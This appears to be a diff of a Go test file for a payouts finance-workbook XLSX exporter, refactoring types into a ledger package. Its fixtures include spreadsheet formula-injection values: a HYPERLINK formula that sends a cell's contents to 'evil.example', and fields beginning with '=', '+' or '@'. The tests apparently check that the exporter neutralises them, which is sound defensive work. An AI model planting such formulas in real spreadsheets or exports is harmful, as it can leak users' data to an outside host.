@@ -13,6 +13,8 @@ import (
 	"github.com/xuri/excelize/v2"
 
 	"payouts/reconcile"
+	"payouts/reconcile/ledger"
+	"payouts/reconcile/runtype"
 	"payouts/reports/sheettest"
 	"payouts/reports/xlsx"
 )
@@ -26,16 +28,17 @@ var hostileNames = []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, 
 // discrepancies.
 func sampleWorkbook(n int) FinanceWorkbook {
 	codes := []string{"BRL", "JPY", "KWD"}
-	var parts []ParticipantBalance
+	var parts []ledger.ParticipantBalance
 	for i := 0; i < n; i++ {
 		code := codes[i%len(codes)]
 		name := fmt.Sprintf("Participant %d", i)
 		if i < len(hostileNames) {
 			name = hostileNames[i]
 		}
-		p := ParticipantBalance{ParticipantID: fmt.Sprintf("p%04d", i), Name: name, Currency: code,
+		cur, _ := reconcile.LookupCurrency(code)
+		p := ledger.ParticipantBalance{Name: name, Balance: reconcile.Balance{ParticipantID: fmt.Sprintf("p%04d", i), Currency: cur,
 			BroughtForward: int64(i%5) * -7, Commissions: int64(1000*i + 7), Reversals: -int64(i % 3 * 11),
-			Adjustments: int64(i%2) * 3}
+			Adjustments: int64(i%2) * 3}}
 		if i == 0 {
 			p.ParticipantID = "-1" // ids are text too; one that looks like a number
 		}
@@ -48,10 +51,10 @@ func sampleWorkbook(n int) FinanceWorkbook {
 		parts = append(parts, p)
 	}
 	// Participants come by currency, then participant.
-	var sorted []ParticipantBalance
+	var sorted []ledger.ParticipantBalance
 	for _, code := range codes {
 		for _, p := range parts {
-			if p.Currency == code {
+			if p.Currency.Code == code {
 				sorted = append(sorted, p)
 			}
 		}
@@ -60,23 +63,25 @@ func sampleWorkbook(n int) FinanceWorkbook {
 	// real run: the Summary's commissions check is 0.
 	commissions := map[string]int64{}
 	for _, p := range sorted {
-		commissions[p.Currency] += p.Commissions
+		commissions[p.Currency.Code] += p.Commissions
 	}
-	w := FinanceWorkbook{RunID: "nightly-20260303", BusinessDate: "2026-03-03", Kind: "nightly",
-		WindowEnd: time.Date(2026, 3, 4, 3, 0, 0, 0, time.UTC),
-		Currencies: []CurrencySummary{
+	w := FinanceWorkbook{Run: ledger.Run{RunID: "nightly-20260303", BusinessDate: "2026-03-03", Kind: runtype.Nightly,
+		WindowEnd: time.Date(2026, 3, 4, 3, 0, 0, 0, time.UTC)},
+		Currencies: []ledger.CurrencySummary{
 			{Currency: "BRL", SalesAllocated: 3, Gross: 30000, Net: 27000, Affiliate: 100, Coproducer: 200,
 				Lead: commissions["BRL"] - 300, Lines: 6},
 			{Currency: "JPY", SalesAllocated: 1, Gross: 9800, Net: 8820, Lead: commissions["JPY"], Lines: 1},
 			{Currency: "KWD", SalesAllocated: 1, Gross: 12345, Net: 12000, Lead: commissions["KWD"], Lines: 1},
 			{Currency: "XYZ"}, // a held sale's currency payouts does not know
 		},
-		DiscrepancyCounts: []DiscrepancyCount{{"CAP_EXCEEDED", "BRL", 1}, {"INVALID_SALE", "XYZ", 1}, {"MISSING_PAYOUT_ACCOUNT", "BRL", 2}},
-		History: []RunPayouts{
-			{RunID: "nightly-20260302", BusinessDate: "2026-03-02", Payouts: []CurrencyAmount{{"BRL", 123456}}},
-			{RunID: "nightly-20260303", BusinessDate: "2026-03-03", Payouts: []CurrencyAmount{{"BRL", 5000}, {"JPY", 8820}}},
+		DiscrepancyCounts: []ledger.DiscrepancyCount{{Kind: "CAP_EXCEEDED", Currency: "BRL", Count: 1},
+			{Kind: "INVALID_SALE", Currency: "XYZ", Count: 1}, {Kind: "MISSING_PAYOUT_ACCOUNT", Currency: "BRL", Count: 2}},
+		History: []ledger.RunPayouts{
+			{RunID: "nightly-20260302", BusinessDate: "2026-03-02", Payouts: []ledger.RunTotal{{Currency: "BRL", Count: 1, Amount: 123456}}},
+			{RunID: "nightly-20260303", BusinessDate: "2026-03-03", Payouts: []ledger.RunTotal{{Currency: "BRL", Count: 1, Amount: 5000},
+				{Currency: "JPY", Count: 1, Amount: 8820}}},
 		},
-		Participants: func(fn func(ParticipantBalance) error) error {
+		Participants: func(fn func(ledger.ParticipantBalance) error) error {
 			for _, p := range sorted {
 				if err := fn(p); err != nil {
 					return err
@@ -84,12 +89,12 @@ func sampleWorkbook(n int) FinanceWorkbook {
 			}
 			return nil
 		},
-		Contracts: func(fn func(ContractApplied) error) error {
-			return fn(ContractApplied{ContractID: "c1", Version: 2, CoproducerID: "p0002", CoproducerName: hostileNames[2],
+		Contracts: func(fn func(ledger.ContractApplied) error) error {
+			return fn(ledger.ContractApplied{ContractID: "c1", Version: 2, CoproducerID: "p0002", CoproducerName: hostileNames[2],
 				ProductID: "=prod", Currency: "BRL", Rate: 125000, Scope: "affiliate", Sales: 2, Commissions: 200, Reversals: -50})
 		},
-		HeldSales: func(fn func(HeldSale) error) error {
-			for _, h := range []HeldSale{
+		HeldSales: func(fn func(ledger.HeldSale) error) error {
+			for _, h := range []ledger.HeldSale{
 				{SaleID: "s13", ProductID: "prod1", Currency: "BRL", Gross: "100.00", Kind: "CAP_EXCEEDED", Detail: "+cap"},
 				{SaleID: "s99", ProductID: "prod1", Currency: "XYZ", Gross: "12.5", Kind: "INVALID_SALE", Detail: "=unknown currency"},
 				{SaleID: "s98", ProductID: "prod2", Currency: "JPY", Gross: "9800.50", Kind: "INVALID_SALE", Detail: "@fraction"},
@@ -118,11 +123,11 @@ func sampleWorkbook(n int) FinanceWorkbook {
 // expected sums a sample's participant rows per currency.
 func expected(w FinanceWorkbook) (lines, payouts, bf, carried map[string]int64) {
 	lines, payouts, bf, carried = map[string]int64{}, map[string]int64{}, map[string]int64{}, map[string]int64{}
-	_ = w.Participants(func(p ParticipantBalance) error {
-		lines[p.Currency] += p.Commissions + p.Reversals + p.Adjustments
-		payouts[p.Currency] += p.Payout
-		bf[p.Currency] += p.BroughtForward
-		carried[p.Currency] += p.CarriedForward
+	_ = w.Participants(func(p ledger.ParticipantBalance) error {
+		lines[p.Currency.Code] += p.Commissions + p.Reversals + p.Adjustments
+		payouts[p.Currency.Code] += p.Payout
+		bf[p.Currency.Code] += p.BroughtForward
+		carried[p.Currency.Code] += p.CarriedForward
 		return nil
 	})
 	return
@@ -326,8 +331,8 @@ func TestFinanceWorkbookContinuesLongSheets(t *testing.T) {
 	// Each sheet's totals cover its own rows: the last sheet holds one row.
 	last := "Participants (7)"
 	rows, _ := f.GetRows(last)
-	var p ParticipantBalance
-	_ = w.Participants(func(x ParticipantBalance) error { p = x; return nil })
+	var p ledger.ParticipantBalance
+	_ = w.Participants(func(x ledger.ParticipantBalance) error { p = x; return nil })
 	if got := sheettest.Minor(t, f, last, "E3", 3); got != p.Commissions || rows[2][2] != "KWD" {
 		t.Errorf("%s KWD commissions total %d (row %q), want %d", last, got, rows[2], p.Commissions)
 	}
@@ -456,8 +461,8 @@ func checkOnlyOurFormulas(t *testing.T, f *excelize.File) {
 // workbook with every sheet and its headers.
 func TestFinanceWorkbookOfAnEmptyRun(t *testing.T) {
 	t.Parallel()
-	w := FinanceWorkbook{RunID: "nightly-20260101", BusinessDate: "2026-01-01", Kind: "nightly",
-		WindowEnd: time.Date(2026, 1, 2, 3, 0, 0, 0, time.UTC)}
+	w := FinanceWorkbook{Run: ledger.Run{RunID: "nightly-20260101", BusinessDate: "2026-01-01", Kind: runtype.Nightly,
+		WindowEnd: time.Date(2026, 1, 2, 3, 0, 0, 0, time.UTC)}}
 	path, tot := writeSample(t, w, xlsx.DefaultChunkRows)
 	if tot.Rows != 0 || len(tot.Payouts) != 0 {
 		t.Errorf("totals %+v", tot)
